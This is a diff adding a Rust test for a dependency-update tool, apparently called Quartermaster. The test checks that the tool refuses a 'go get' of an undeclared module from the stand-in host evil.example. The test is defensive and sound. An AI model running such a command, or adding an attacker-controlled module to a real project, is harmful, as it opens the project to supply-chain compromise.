@@ -218,3 +218,36 @@ fn npm_update_async_states_what_the_lock_did() {
         "npm fetched the tarball from the stand-in"
     );
 }
+
+/// `go get` of a module go.mod does not require would add it: refused before anything runs.
+#[test]
+fn go_get_cannot_add_a_module() {
+    let f = Fixture::new();
+    f.commit_file(
+        "main",
+        "go.mod",
+        "module example.com/app\n\ngo 1.21\n\nrequire golang.org/x/text v0.14.0\n",
+    );
+    let mut action = create_mr(
+        "quartermaster/pwn",
+        &[
+            json!({"package": "evil.example/pwn", "from": "v0.9.0", "to": "v1.0.0", "update_type": "minor"}),
+        ],
+        "batch",
+    );
+    action["commands"] = json!(["go get evil.example/pwn@v1.0.0"]);
+    action["test_command"] = json!("make quick");
+    let mut go_plan = plan(vec![action]);
+    go_plan["repo_context"]["ecosystems"] = json!(["go"]);
+    let run = f.run(&go_plan, &[]);
+    assert_eq!(run.code, 1, "{}", run.said());
+    assert_eq!(
+        (run.status(0), run.reason(0)),
+        (
+            "denied",
+            "`evil.example/pwn` is not a dependency the project declares in the repository root: Quartermaster updates dependencies, it does not add new ones"
+        )
+    );
+    assert!(run.action(0)["commands"].as_array().unwrap().is_empty());
+    assert!(f.pulls().is_empty());
+}
